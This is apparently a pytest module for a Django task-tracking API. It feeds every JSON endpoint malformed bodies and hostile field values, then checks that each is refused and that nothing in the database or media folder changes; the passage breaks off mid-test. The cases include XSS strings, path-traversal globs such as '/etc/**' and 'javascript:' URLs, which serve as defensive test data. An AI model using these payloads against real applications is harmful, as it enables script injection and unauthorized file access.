"""Hostile input fed to every upload and JSON endpoint (hostile text in every page:
tests/test_hostile_pages.py).

DESIGN.md promises: "Bad input is answered with a 4xx and a reason, and changes nothing"; "XML
evidence is parsed with defusedxml protections; rendered evidence is escaped". Each corpus is
a table of cases. A refused case asserts the exact status and ``code``, a JSON body with
``detail``, that no temporary upload file is left, that no file appeared under MEDIA_ROOT, and
that no row of the tasks, decisions and evidence apps changed (counts first, then every row).
"""

import json
import os
import shutil
import struct
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import quote

import pytest
from django.apps import apps
from django.conf import settings
from drf_spectacular.generators import SchemaGenerator

from codehosts.models import HostAccount
from decisions import services as decision_services
from decisions.models import Decision, Spec, SpecVersion
from events import services as events_services
from evidence.models import Evidence, blob_name
from interop import services as interop_services
from projects.models import Event
from tasks import attempts, comments, review
from tasks.models import Attempt, Task
from tests.conftest import module_media, world_for_the_module
from tests.factories import CRITERIA, Flow, ProjectFactory, all_met

JSON = "application/json"
DIFF_SAMPLE = b"--- a/x.py\n+++ b/x.py\n@@ -1 +1 @@\n-a\n+b\n"
BOUNDARY = "----factoryHostileBoundary7MA4YWxk"
MULTIPART = f"multipart/form-data; boundary={BOUNDARY}"

SCRIPT = "<script>alert(1)</script>"
IMG = "<img src=x onerror=alert(1)>"
XSS = SCRIPT + IMG

# --- What "changes nothing" means -----------------------------------------------------------

COUNTED = (Task, Attempt, Evidence, Decision, Spec, SpecVersion, Event)


def counts() -> dict:
    return {model.__name__: model.objects.count() for model in COUNTED}


def stored_rows() -> dict:
    """Every row of every model (and many-to-many table) of the three apps, by model."""
    rows = {}
    for label in ("tasks", "decisions", "evidence"):
        for model in apps.get_app_config(label).get_models(include_auto_created=True):
            rows[model._meta.label] = list(model._base_manager.order_by("pk").values())
    return rows


def files_in(path) -> set[str]:
    path = str(path)
    return {
        os.path.relpath(os.path.join(directory, name), path)
        for directory, _, names in os.walk(path)
        for name in names
    }


@dataclass
class Snapshot:
    counts: dict
    rows: dict
    media: set

    @classmethod
    def take(cls, settings) -> "Snapshot":
        return cls(counts(), stored_rows(), files_in(settings.MEDIA_ROOT))

    def assert_unchanged(self, settings) -> None:
        assert files_in(settings.FACTORY_UPLOAD_TEMP_DIR) == set(), "a temporary file lingers"
        assert files_in(settings.MEDIA_ROOT) == self.media, "a file was stored"
        assert counts() == self.counts
        now = stored_rows()
        for label, rows in self.rows.items():
            assert now[label] == rows, f"{label} changed"


def assert_refused(response, status: int, code: str, field_name: str | None = None) -> dict:
    """The exact status and code, in the one JSON error format."""
    assert response.status_code == status, response.content[:600]
    assert response["Content-Type"].startswith("application/json"), response.content[:300]
    body = response.json()
    assert isinstance(body.get("detail"), str) and body["detail"], body
    assert body.get("code") == code, body
    if field_name is not None:
        assert field_name in body.get("fields", {}), body
    return body


# --- The world every hostile request is aimed at --------------------------------------------


BEADS_LINE = b'{"id":"bd-1","title":"Imported","status":"open","priority":2}\n'


class World:
    """Project FM with a task in every state an endpoint needs, and an outsider project OT."""

    def __init__(self):
        self.flow = flow = Flow(ProjectFactory(slug="FM"), prefix="fm")
        self.other = Flow(ProjectFactory(slug="OT"), prefix="ot")
        flow.gates({})
        self.subscription = events_services.subscription_create(
            project=flow.project, actor=flow.manager, url="http://127.0.0.1:9/hook"
        )
        self.spec = flow.spec()
        self.review_task, self.review_attempt = flow.in_review(agent=flow.agent2)
        self.task, self.attempt = flow.claimed(agent=flow.agent, spec=self.spec)
        # Usage reported, so a manager may void it.
        attempts.attempt_heartbeat(attempt=self.attempt, actor=flow.agent, usage={"cost_usd": 1})
        # In review with a diff, and a comment on it.
        _, self.commented = flow.claimed(agent=flow.agent2, title="Commented")
        flow.attach(self.commented, DIFF_SAMPLE, kind="diff", name="change.diff")
        attempts.attempt_submit(attempt=self.commented, actor=flow.agent2, summary="s", change={})
        attempts.attempt_gates_passed(attempt=self.commented)
        self.commented.refresh_from_db()
        self.comment = comments.comment_add(
            attempt=self.commented, actor=flow.reviewer, path="x.py", line=1, body="why?"
        )
        # Queued to land: landing is on while it is approved, then off, so nothing else queues.
        flow.project.landing = {**flow.project.landing, "mode": "push"}
        flow.project.save(update_fields=["landing"])
        self.queued, queued_attempt = flow.in_review(agent=flow.agent2, title="Queued")
        review.task_approve(task=self.queued, actor=flow.reviewer, criteria=all_met(queued_attempt))
        flow.project.landing = {**flow.project.landing, "mode": "off"}
        flow.project.save(update_fields=["landing"])
        self.draft = flow.draft(title="Draft")
        # Claimable: a hostile claim that slipped through would take it.
        self.ready = flow.ready(title="Ready")
        self.decision = decision_services.decision_propose(  # the manager decides it
            project=flow.project, actor=flow.reviewer, title="t", context="c", decision="d"
        )
        self.draft_version = decision_services.spec_version_create(
            spec=self.spec, actor=flow.manager, body="v2", criteria=CRITERIA
        )
        self.other_task = self.other.draft(title="Elsewhere")
        self.delivery = self.subscription.deliveries.first()
        # A member's account on the code host, linked (a manager may unlink it).
        self.host_account = HostAccount.objects.create(
            project=flow.project, host_id=583231, login="fm-agent", user=flow.agent
        )
        self.import_run = interop_services.import_check(  # a dry run, to apply
            project=flow.project,
            actor=flow.manager,
            format="beads",
            name="i.jsonl",
            data=BEADS_LINE,
        )

    def client(self, api, role: str):
        client = api(getattr(self.flow, role))
        client.raise_request_exception = False  # a crash is a 500 to assert on, not an exception
        return client


@pytest.fixture(scope="module")
def _world_media(tmp_path_factory):
    """Where the module's world keeps its evidence files while it is built."""
    with module_media(tmp_path_factory):
        yield Path(settings.MEDIA_ROOT)


@pytest.fixture
def _isolated_media(settings, tmp_path, _world_media):
    """Each test's own media folder, holding the world's evidence files as it found them:
    its assertions on stored files see what they saw when each test built its world."""
    settings.MEDIA_ROOT = tmp_path / "media"
    shutil.copytree(_world_media, settings.MEDIA_ROOT)


@pytest.fixture(scope="module")
def _world(django_db_setup, django_db_blocker, _world_media):
    with world_for_the_module(django_db_blocker, World) as world:
        yield world


@pytest.fixture
def world(db, _world):
    """The world, built once for the module; each test is rolled back to it."""
    return _world


# --- JSON endpoints -------------------------------------------------------------------------


@dataclass(frozen=True)
class Endpoint:
    method: str
    path: object  # World -> str
    caller: str  # the Flow member allowed to call it
    valid: dict  # a body the endpoint accepts


ENDPOINTS = {
    "claim": Endpoint("POST", lambda w: "/api/v1/tasks/claim/", "agent", {"project": "FM"}),
    "heartbeat": Endpoint(
        "POST",
        lambda w: f"/api/v1/attempts/{w.attempt.pk}/heartbeat/",
        "agent",
        {"lease_seconds": 60},
    ),
    "checkpoint": Endpoint(
        "PUT",
        lambda w: f"/api/v1/attempts/{w.attempt.pk}/checkpoint/",
        "agent",
        {"data": {"step": 1}, "revision": 0},
    ),
    "submit": Endpoint(
        "POST",
        lambda w: f"/api/v1/attempts/{w.attempt.pk}/submit/",
        "agent",
        {"summary": "done", "change": {"commit": "abc1234000000000000000000000000000000000"}},
    ),
    "release": Endpoint(
        "POST", lambda w: f"/api/v1/attempts/{w.attempt.pk}/release/", "agent", {"reason": "r"}
    ),
    "usage.void": Endpoint(
        "POST",
        lambda w: f"/api/v1/attempts/{w.attempt.pk}/usage/void/",
        "manager",
        {"reason": "r"},
    ),
    "review": Endpoint(
        "POST",
        lambda w: f"/api/v1/tasks/{w.review_task.key}/review/",
        "reviewer",
        {"verdict": "reject", "reason": "not yet"},
    ),
    "task.create": Endpoint(
        "POST", lambda w: "/api/v1/tasks/", "manager", {"project": "FM", "title": "t"}
    ),
    "task.patch": Endpoint(
        "PATCH", lambda w: f"/api/v1/tasks/{w.draft.key}/", "manager", {"title": "t2"}
    ),
    "task.publish": Endpoint(
        "POST", lambda w: f"/api/v1/tasks/{w.draft.key}/publish/", "manager", {"reason": "r"}
    ),
    "spec.create": Endpoint(
        "POST",
        lambda w: "/api/v1/specs/",
        "manager",
        {"project": "FM", "title": "t", "body": "b", "criteria": CRITERIA},
    ),
    "version.create": Endpoint(
        "POST",
        lambda w: f"/api/v1/specs/{w.spec.key}/versions/",
        "manager",
        {"body": "b", "criteria": CRITERIA},
    ),
    "version.accept": Endpoint(
        "POST",
        lambda w: f"/api/v1/specs/{w.spec.key}/versions/2/accept/",
        "manager",
        {"reason": "r"},
    ),
    "decision.create": Endpoint(
        "POST",
        lambda w: "/api/v1/decisions/",
        "manager",
        {"project": "FM", "title": "t", "context": "c", "decision": "d"},
    ),
    "decision.reject": Endpoint(
        "POST", lambda w: f"/api/v1/decisions/{w.decision.key}/reject/", "manager", {"reason": "r"}
    ),
    "attempt.decision": Endpoint(
        "POST",
        lambda w: f"/api/v1/attempts/{w.attempt.pk}/decisions/",
        "agent",
        {"title": "t", "context": "c", "decision": "d"},
    ),
    "project.patch": Endpoint(
        "PATCH", lambda w: "/api/v1/projects/FM/", "manager", {"max_attempts": 5}
    ),
}


def send_json(world, api, name: str, body, content_type: str = JSON, **extra):
    endpoint = ENDPOINTS[name]
    raw = body if isinstance(body, bytes) else json.dumps(body).encode()
    client = world.client(api, endpoint.caller)
    return client.generic(
        endpoint.method, endpoint.path(world), data=raw, content_type=content_type, **extra
    )


def valid(name: str, **changes) -> dict:
    return {**ENDPOINTS[name].valid, **changes}


@pytest.mark.django_db
@pytest.mark.parametrize("name", list(ENDPOINTS))
def test_the_valid_body_of_each_endpoint_is_accepted(world, api, name):
    """The control group: what the corpus refuses, it refuses for the hostile part alone."""
    response = send_json(world, api, name, ENDPOINTS[name].valid)

    assert 200 <= response.status_code < 300, response.content[:500]


@dataclass(frozen=True)
class BodyCase:
    """A body every JSON endpoint must refuse, whatever the endpoint expects."""

    id: str
    body: object  # bytes, or a function of the endpoint's valid body returning bytes
    status: int
    code: str
    content_type: str = JSON
    settings: dict = field(default_factory=dict)
    marks: tuple = ()


BODY_CASES = [
    BodyCase("malformed", b'{"reason": ', 400, "parse_error"),
    BodyCase("trailing-garbage", lambda v: json.dumps(v).encode() + b" }", 400, "parse_error"),
    BodyCase("single-quotes", b"{'reason': 'r'}", 400, "parse_error"),
    BodyCase("invalid-utf8", b'{"reason": "\xff\xfe\xc3("}', 400, "parse_error"),
    BodyCase("nan-literal", b'{"reason": NaN}', 400, "parse_error"),
    BodyCase("infinity-literal", b'{"lease_seconds": Infinity}', 400, "parse_error"),
    BodyCase("array", lambda v: json.dumps([v]).encode(), 400, "invalid"),
    BodyCase("string", b'"reason"', 400, "invalid"),
    BodyCase("number", b"42", 400, "invalid"),
    BodyCase("null", b"null", 400, "invalid"),
    BodyCase("true", b"true", 400, "invalid"),
    BodyCase("deep-arrays", b"[" * 100_000, 400, "parse_error"),
    BodyCase("deep-objects", b'{"a":' * 100_000, 400, "parse_error"),
    BodyCase(
        "over-the-body-limit",
        lambda v: json.dumps({**v, "pad": "x" * 8192}).encode(),
        413,
        "too_large",
        settings={"DATA_UPLOAD_MAX_MEMORY_SIZE": 4096},
    ),
    BodyCase(
        "decompressing-charset",
        lambda v: json.dumps(v).encode(),
        400,
        "parse_error",
        content_type="application/json; charset=bz2_codec",
    ),
    BodyCase(
        "text-plain", lambda v: json.dumps(v).encode(), 415, "unsupported_media_type", "text/plain"
    ),
    # "JSON over HTTPS": a form is not JSON, however many fields it has.
    BodyCase(
        "form-with-too-many-fields",
        "&".join(f"f{n}=1" for n in range(1_001)).encode(),
        415,
        "unsupported_media_type",
        content_type="application/x-www-form-urlencoded",
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("name", "case"),
    [
        pytest.param(name, case, id=f"{name}-{case.id}", marks=case.marks)
        for case in BODY_CASES
        for name in ENDPOINTS
    ],
)
def test_a_hostile_body_is_refused_and_changes_nothing(world, api, settings, name, case):
    for setting, value in case.settings.items():
        setattr(settings, setting, value)
    body = case.body(ENDPOINTS[name].valid) if callable(case.body) else case.body
    before = Snapshot.take(settings)

    response = send_json(world, api, name, body, content_type=case.content_type)

    assert_refused(response, case.status, case.code)
    before.assert_unchanged(settings)


NUL = "a\x00b"


PROOF_TESTS_NO_SELECT = [{"key": "AC-1", "text": "t", "proof": {"check": "tests"}}]
PROOF_KIND_VIDEO = [{"key": "AC-1", "text": "t", "proof": {"check": "evidence", "kind": "video"}}]

# One row per hostile field: endpoint, case id, body, status, code, the field the error names.
# fmt: off
FIELD_ROWS = [
    ("claim", "lease-huge", valid("claim", lease_seconds=10**30), 400, "invalid", "lease_seconds"),
    ("claim", "lease-zero", valid("claim", lease_seconds=0), 400, "invalid", "lease_seconds"),
    ("claim", "lease-negative", valid("claim", lease_seconds=-1), 400, "invalid", "lease_seconds"),
    ("claim", "lease-float", valid("claim", lease_seconds=1.5), 400, "invalid", "lease_seconds"),
    ("claim", "lease-bool", valid("claim", lease_seconds=True), 400, "invalid", "lease_seconds"),
    ("claim", "lease-words", valid("claim", lease_seconds="ten"), 400, "invalid", "lease_seconds"),
    ("claim", "labels-string", valid("claim", labels="backend"), 400, "invalid", "labels"),
    ("claim", "labels-object", valid("claim", labels={"a": 1}), 400, "invalid", "labels"),
    ("claim", "labels-of-objects", valid("claim", labels=[{"a": 1}]), 400, "invalid", "labels"),
    ("claim", "labels-nul", valid("claim", labels=[NUL]), 400, "invalid", "labels"),
    ("claim", "labels-too-many", valid("claim", labels=["x"] * 21), 400, "invalid", "labels"),
    ("claim", "project-list", valid("claim", project=["FM"]), 400, "invalid", "project"),
    ("claim", "project-nul", valid("claim", project="FM\x00"), 400, "invalid", "project"),
    ("claim", "project-not-mine", valid("claim", project="OT"), 404, "not_found", None),
    ("heartbeat", "lease-huge", {"lease_seconds": 10**30}, 400, "invalid", "lease_seconds"),
    ("heartbeat", "lease-negative-huge", {"lease_seconds": -(10**30)}, 400, "invalid", "lease_seconds"),
    ("heartbeat", "lease-float-huge", {"lease_seconds": 1e300}, 400, "invalid", "lease_seconds"),
    ("heartbeat", "lease-words", {"lease_seconds": "soon"}, 400, "invalid", "lease_seconds"),
    ("heartbeat", "lease-list", {"lease_seconds": [60]}, 400, "invalid", "lease_seconds"),
    ("checkpoint", "revision-negative", valid("checkpoint", revision=-1), 400, "invalid", "revision"),
    ("checkpoint", "revision-float", valid("checkpoint", revision=1.5), 400, "invalid", "revision"),
    ("checkpoint", "revision-words", valid("checkpoint", revision="x"), 400, "invalid", "revision"),
    ("checkpoint", "revision-null", valid("checkpoint", revision=None), 400, "invalid", "revision"),
    ("checkpoint", "revision-missing", {"data": {"a": 1}}, 400, "invalid", "revision"),
    ("checkpoint", "data-missing", {"revision": 0}, 400, "invalid", "data"),
    ("checkpoint", "revision-huge", valid("checkpoint", revision=10**30), 409, "checkpoint_conflict", None),
    ("submit", "summary-missing", {"change": {}}, 400, "invalid", "summary"),
    ("submit", "summary-nul", valid("submit", summary=NUL), 400, "invalid", "summary"),
    ("submit", "summary-object", valid("submit", summary={"a": 1}), 400, "invalid", "summary"),
    ("submit", "summary-too-long", valid("submit", summary="x" * 10_001), 400, "invalid", "summary"),
    ("submit", "change-string", valid("submit", change="abc1234000000000000000000000000000000000"), 400, "invalid", "change"),
    ("submit", "change-list", valid("submit", change=["abc1234000000000000000000000000000000000"]), 400, "invalid", "change"),
    ("submit", "commit-not-hex", valid("submit", change={"commit": "zz"}), 400, "invalid", "change"),
    ("submit", "url-javascript", valid("submit", change={"url": "javascript:alert(1)"}), 400, "invalid", "change"),
    ("submit", "branch-nul", valid("submit", change={"branch": NUL}), 400, "invalid", "change"),
    ("submit", "change-unknown-key", valid("submit", change={"state": "done"}), 400, "invalid", "change"),
    ("release", "reason-nul", {"reason": NUL}, 400, "invalid", "reason"),
    ("release", "reason-object", {"reason": {"a": 1}}, 400, "invalid", "reason"),
    ("release", "reason-too-long", {"reason": "x" * 10_001}, 400, "invalid", "reason"),
    ("release", "blocked-words", {"blocked": "maybe"}, 400, "invalid", "blocked"),
    ("release", "blocked-without-reason", {"blocked": True}, 400, "invalid", "reason"),
    ("usage.void", "reason-nul", {"reason": NUL}, 400, "invalid", "reason"),
    ("usage.void", "reason-object", {"reason": {"a": 1}}, 400, "invalid", "reason"),
    ("usage.void", "reason-too-long", {"reason": "x" * 10_001}, 400, "invalid", "reason"),
    ("usage.void", "reason-blank", {"reason": " "}, 400, "invalid", "reason"),
    ("usage.void", "reason-missing", {}, 400, "invalid", "reason"),
    ("review", "verdict-unknown", {"verdict": "maybe"}, 400, "invalid", "verdict"),
    ("review", "verdict-list", {"verdict": ["approve"]}, 400, "invalid", "verdict"),
    ("review", "verdict-missing", {"reason": "r"}, 400, "invalid", "verdict"),
    ("review", "reject-without-reason", {"verdict": "reject", "reason": ""}, 400, "invalid", "reason"),
    ("review", "reason-nul", {"verdict": "reject", "reason": NUL}, 400, "invalid", "reason"),
    ("task.create", "title-missing", {"project": "FM"}, 400, "invalid", "title"),
    ("task.create", "title-blank", valid("task.create", title=""), 400, "invalid", "title"),
    ("task.create", "title-nul", valid("task.create", title=NUL), 400, "invalid", "title"),
    ("task.create", "title-too-long", valid("task.create", title="x" * 201), 400, "invalid", "title"),
    ("task.create", "description-nul", valid("task.create", description=NUL), 400, "invalid", "description"),
    ("task.create", "priority-low", valid("task.create", priority=-(10**9)), 400, "invalid", "priority"),
    ("task.create", "priority-huge", valid("task.create", priority=10**30), 400, "invalid", "priority"),
    ("task.create", "priority-words", valid("task.create", priority="high"), 400, "invalid", "priority"),
    ("task.create", "labels-string", valid("task.create", labels="backend"), 400, "invalid", "labels"),
    ("task.create", "labels-object", valid("task.create", labels={"a": "b"}), 400, "invalid", "labels"),
    ("task.create", "depends-string", valid("task.create", depends_on="FM-1"), 400, "invalid", "depends_on"),
    ("task.create", "depends-foreign", valid("task.create", depends_on=["OT-1"]), 400, "invalid", "depends_on"),
    ("task.create", "paths-absolute", valid("task.create", allowed_paths=["/etc/**"]), 400, "invalid", "allowed_paths"),
    ("task.create", "paths-dotdot", valid("task.create", allowed_paths=["src/../../x"]), 400, "invalid", "allowed_paths"),
    ("task.create", "paths-backslash", valid("task.create", allowed_paths=["..\\win"]), 400, "invalid", "allowed_paths"),
    ("task.create", "paths-string", valid("task.create", allowed_paths="src/**"), 400, "invalid", "allowed_paths"),
    ("task.create", "attempts-zero", valid("task.create", max_attempts=0), 400, "invalid", "max_attempts"),
    ("task.create", "attempts-huge", valid("task.create", max_attempts=10**30), 400, "invalid", "max_attempts"),
    ("task.create", "spec-unknown", valid("task.create", spec="FM-S99"), 400, "invalid", "spec"),
    ("task.create", "spec-object", valid("task.create", spec={"k": 1}), 400, "invalid", "spec"),
    ("task.create", "project-nul", valid("task.create", project="FM\x00"), 400, "invalid", "project"),
    ("task.create", "project-foreign", valid("task.create", project="OT"), 404, "not_found", None),
    ("task.patch", "title-nul", {"title": NUL}, 400, "invalid", "title"),
    ("task.patch", "title-null", {"title": None}, 400, "invalid", "title"),
    ("task.patch", "priority-low", {"priority": -(10**9)}, 400, "invalid", "priority"),
    ("task.patch", "labels-string", {"labels": "backend"}, 400, "invalid", "labels"),
    ("task.patch", "paths-object", {"allowed_paths": {"a": 1}}, 400, "invalid", "allowed_paths"),
    ("task.patch", "attempts-negative", {"max_attempts": -1}, 400, "invalid", "max_attempts"),
    ("task.patch", "spec-foreign", {"spec": "OT-S1"}, 400, "invalid", "spec"),
    ("task.publish", "reason-nul", {"reason": NUL}, 400, "invalid", "reason"),
    ("task.publish", "reason-list", {"reason": ["r"]}, 400, "invalid", "reason"),
    ("version.accept", "reason-nul", {"reason": NUL}, 400, "invalid", "reason"),
    ("decision.reject", "reason-blank", {"reason": ""}, 400, "invalid", "reason"),
    ("decision.reject", "reason-nul", {"reason": NUL}, 400, "invalid", "reason"),
    ("spec.create", "criteria-object", valid("spec.create", criteria={}), 400, "invalid", "criteria"),
    ("spec.create", "criteria-string", valid("spec.create", criteria="AC-1"), 400, "invalid", "criteria"),
    ("spec.create", "proof-unknown", valid("spec.create", criteria=[{**CRITERIA[2], "proof": {"check": "magic"}}]), 400, "invalid", "criteria"),
    ("spec.create", "proof-string", valid("spec.create", criteria=[{**CRITERIA[2], "proof": "review"}]), 400, "invalid", "criteria"),
    ("spec.create", "tests-without-select", valid("spec.create", criteria=PROOF_TESTS_NO_SELECT), 400, "invalid", "criteria"),
    ("spec.create", "evidence-kind-video", valid("spec.create", criteria=PROOF_KIND_VIDEO), 400, "invalid", "criteria"),
    ("spec.create", "key-twice", valid("spec.create", criteria=[CRITERIA[0], CRITERIA[0]]), 400, "invalid", "criteria"),
    ("spec.create", "key-ill-formed", valid("spec.create", criteria=[{**CRITERIA[2], "key": "1 bad"}]), 400, "invalid", "criteria"),
    ("spec.create", "key-nul", valid("spec.create", criteria=[{**CRITERIA[2], "key": "AC\x00"}]), 400, "invalid", "criteria"),
    ("spec.create", "text-nul", valid("spec.create", criteria=[{**CRITERIA[2], "text": NUL}]), 400, "invalid", "criteria"),
    ("spec.create", "criteria-too-many", valid("spec.create", criteria=[CRITERIA[2]] * 201), 400, "invalid", "criteria"),
    ("spec.create", "body-nul", valid("spec.create", body=NUL), 400, "invalid", "body"),
    ("spec.create", "body-blank", valid("spec.create", body=""), 400, "invalid", "body"),
    ("spec.create", "title-nul", valid("spec.create", title=NUL), 400, "invalid", "title"),
    ("spec.create", "title-list", valid("spec.create", title=["t"]), 400, "invalid", "title"),
    ("version.create", "criteria-object", {"body": "b", "criteria": {}}, 400, "invalid", "criteria"),
    ("version.create", "body-nul", {"body": NUL, "criteria": []}, 400, "invalid", "body"),
    ("version.create", "body-missing", {"criteria": []}, 400, "invalid", "body"),
    ("decision.create", "title-nul", valid("decision.create", title=NUL), 400, "invalid", "title"),
    ("decision.create", "context-nul", valid("decision.create", context=NUL), 400, "invalid", "context"),
    ("decision.create", "decision-nul", valid("decision.create", decision=NUL), 400, "invalid", "decision"),
    ("decision.create", "consequences-nul", valid("decision.create", consequences=NUL), 400, "invalid", "consequences"),
    ("decision.create", "title-too-long", valid("decision.create", title="x" * 201), 400, "invalid", "title"),
    ("decision.create", "alternatives-string", valid("decision.create", alternatives="use Redis"), 400, "invalid", "alternatives"),
    ("decision.create", "alternative-nul", valid("decision.create", alternatives=[{"option": "o", "reason": NUL}]), 400, "invalid", "alternatives"),
    ("decision.create", "alternative-no-option", valid("decision.create", alternatives=[{"reason": "r"}]), 400, "invalid", "alternatives"),
    ("decision.create", "tasks-string", valid("decision.create", tasks="FM-1"), 400, "invalid", "tasks"),
    ("decision.create", "tasks-foreign", valid("decision.create", tasks=["OT-1"]), 400, "invalid", "tasks"),
    ("decision.create", "specs-unknown", valid("decision.create", specs=["FM-S99"]), 400, "invalid", "specs"),
    ("decision.create", "supersedes-proposed", valid("decision.create", supersedes=["FM-D1"]), 400, "invalid", "supersedes"),
    ("decision.create", "amends-unknown-spec", valid("decision.create", amendments=[{"spec": "FM-S99", "body": "b", "criteria": []}]), 400, "invalid", "amendments"),
    ("decision.create", "amends-criteria-object", valid("decision.create", amendments=[{"spec": "FM-S1", "body": "b", "criteria": {}}]), 400, "invalid", "amendments"),
    ("decision.create", "amendments-object", valid("decision.create", amendments={"spec": "FM-S1"}), 400, "invalid", "amendments"),
    ("decision.create", "project-foreign", valid("decision.create", project="OT"), 404, "not_found", None),
    ("attempt.decision", "title-nul", valid("attempt.decision", title=NUL), 400, "invalid", "title"),
    ("attempt.decision", "context-blank", valid("attempt.decision", context=""), 400, "invalid", "context"),
    ("attempt.decision", "alternatives-object", valid("attempt.decision", alternatives={"o": "r"}), 400, "invalid", "alternatives"),
    ("attempt.decision", "tasks-foreign", valid("attempt.decision", tasks=["OT-1"]), 400, "invalid", "tasks"),
    ("project.patch", "attempts-zero", {"max_attempts": 0}, 400, "invalid", "max_attempts"),
    ("project.patch", "attempts-huge", {"max_attempts": 10**30}, 400, "invalid", "max_attempts"),
    ("project.patch", "attempts-words", {"max_attempts": "x"}, 400, "invalid", "max_attempts"),
    ("project.patch", "name-nul", {"name": NUL}, 400, "invalid", "name"),
    ("project.patch", "name-blank", {"name": ""}, 400, "invalid", "name"),
    ("project.patch", "repository-javascript", {"repository_url": "javascript:alert(1)"}, 400, "invalid", "repository_url"),
    ("project.patch", "policy-string", {"gate_policy": "coverage"}, 400, "invalid", "gate_policy"),
    ("project.patch", "policy-list", {"gate_policy": []}, 400, "invalid", "gate_policy"),
    ("project.patch", "gate-unknown", {"gate_policy": {"nope": {}}}, 400, "invalid", "gate_policy"),
    ("project.patch", "threshold-2", {"gate_policy": {"coverage": {"threshold": 2}}}, 400, "invalid", "gate_policy"),
    ("project.patch", "threshold-nul", {"gate_policy": {"coverage": {"threshold": NUL}}}, 400, "invalid", "gate_policy"),
    ("project.patch", "parameter-unknown", {"gate_policy": {"coverage": {"threshold": 0.5, "x": 1}}}, 400, "invalid", "gate_policy"),
    ("task.create", "labels-ill-formed", valid("task.create", labels=["Not A Label!"]), 400, "invalid", "labels"),
    ("project.patch", "parameters-string", {"gate_policy": {"coverage": "strict"}}, 400, "invalid", "gate_policy"),
    ("project.patch", "parameters-number", {"gate_policy": {"coverage": 5}}, 400, "invalid", "gate_policy"),
    ("project.patch", "parameters-list", {"gate_policy": {"coverage": []}}, 400, "invalid", "gate_policy"),
]
# fmt: on

FIELD_CASES = [
    pytest.param(
        name,
        body,
        status,
        code,
        field_name,
        id=f"{name}-{id_}",
    )
    for name, id_, body, status, code, field_name in FIELD_ROWS
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "body", "status", "code", "field_name"), FIELD_CASES)
def test_a_hostile_field_is_refused_and_changes_nothing(
    world, api, settings, name, body, status, code, field_name
):
    before = Snapshot.take(settings)

    response = send_json(world, api, name, body)

    assert_refused(response, status, code, field_name)
    before.assert_unchanged(settings)


@pytest.mark.django_db
def test_an_idempotency_key_over_255_characters_is_refused(world, api, settings):
    before = Snapshot.take(settings)

    response = send_json(world, api, "submit", valid("submit"), HTTP_IDEMPOTENCY_KEY="k" * 256)

    assert_refused(response, 400, "invalid", "Idempotency-Key")
    before.assert_unchanged(settings)


# Strings that JSON carries but a text column cannot hold (PostgreSQL refuses NUL in text and
# jsonb; a lone surrogate cannot be encoded as UTF-8). Where the API stores opaque JSON, the
# right answer is either to store the value exactly (it reads back the same) or a 400.


def _checkpoint(world, client):
    return client.get(f"/api/v1/attempts/{world.attempt.pk}/checkpoint/").json()["data"]


def _new_spec_select(world, client):
    version = client.get("/api/v1/specs/FM-S2/versions/1/").json()
    return version["criteria"][0]["proof"]["select"]


def _new_version_select(world, client):
    version = client.get(f"/api/v1/specs/{world.spec.key}/versions/3/").json()
    return version["criteria"][0]["proof"]["select"]


def _amendment_select(world, client):
    decision = client.get("/api/v1/decisions/FM-D2/").json()
    return decision["amendments"][0]["criteria"][0]["proof"]["select"]


def selecting(select: str) -> list:
    return [{"key": "AC-1", "text": "t", "proof": {"check": "tests", "select": select}}]


OPAQUE_CASES = [
    pytest.param(
        "checkpoint",
        {"data": {"k": NUL}, "revision": 0},
        _checkpoint,
        {"k": NUL},
        id="checkpoint-value-nul",
    ),
    pytest.param(
        "checkpoint",
        {"data": {NUL: 1}, "revision": 0},
        _checkpoint,
        {NUL: 1},
        id="checkpoint-key-nul",
    ),
    pytest.param(
        "checkpoint",
        b'{"data": {"k": "\\ud800"}, "revision": 0}',
        _checkpoint,
        {"k": "\ud800"},
        id="checkpoint-lone-surrogate",
    ),
    pytest.param(
        "spec.create",
        valid("spec.create", criteria=selecting(f"tests/{NUL}::*")),
        _new_spec_select,
        f"tests/{NUL}::*",
        id="spec-select-nul",
    ),
    pytest.param(
        "spec.create",
        json.dumps(valid("spec.create", criteria=selecting("tests/X::*")))
        .replace("tests/X::*", "tests/\\ud800::*")
        .encode(),
        _new_spec_select,
        "tests/\ud800::*",
        id="spec-select-lone-surrogate",
    ),
    pytest.param(
        "version.create",
        {"body": "b", "criteria": selecting(f"tests/{NUL}::*")},
        _new_version_select,
        f"tests/{NUL}::*",
        id="version-select-nul",
    ),
    pytest.param(
        "decision.create",
        valid(
            "decision.create",
            amendments=[{"spec": "FM-S1", "body": "b", "criteria": selecting(NUL)}],
        ),
        _amendment_select,
        NUL,
        id="amendment-select-nul",
    ),
]


@pytest.mark.django_db
@pytest.mark.parametrize(("name", "body", "read_back", "expected"), OPAQUE_CASES)
def test_a_string_no_text_column_holds_is_stored_exactly_or_refused(
    world, api, settings, name, body, read_back, expected
):
    before = Snapshot.take(settings)

    response = send_json(world, api, name, body)

    if response.status_code == 400:
        assert_refused(response, 400, "invalid")
        before.assert_unchanged(settings)
    else:
        assert 200 <= response.status_code < 300, response.content[:500]
        assert read_back(world, world.client(api, "manager")) == expected


# Keys in the path: a NUL cannot match any key, so the answer is a 404 (PostgreSQL refuses
# to even compare a NUL in a text column, so the lookup must not reach the database with it).


def schema_operations() -> list[tuple[str, str]]:
    """Every ``(METHOD, path template)`` of the API, from the OpenAPI schema."""
    schema = SchemaGenerator().get_schema(request=None, public=True)
    return [
        (method.upper(), path)
        for path, item in schema["paths"].items()
        for method in item
        if path.startswith("/api/v1/")
    ]


KEYED_OPERATIONS = [
    (method, path) for method, path in schema_operations() if "{key}" in path or "{slug}" in path
]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("method", "template"), KEYED_OPERATIONS, ids=[f"{m} {p}" for m, p in KEYED_OPERATIONS]
)
def test_a_nul_in_a_key_of_the_path_is_not_found(world, api, settings, method, template):
    path = (
        template.replace("{key}", quote("FM-1\x00"))
        .replace("{slug}", quote("FM\x00"))
        .replace("{number}", "1")
    )
    before = Snapshot.take(settings)

    response = world.client(api, "manager").generic(method, path, b"{}", JSON)

    assert_refused(response, 404, "not_found")
    before.assert_unchanged(settings)


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("method", "path"),
    [
        ("GET", "/tasks/FM-1%00/"),
        ("GET", "/tasks/FM-1%00/gates/"),
        ("GET", "/decisions/FM-D1%00/"),
        ("GET", "/specs/FM-S1%00/"),
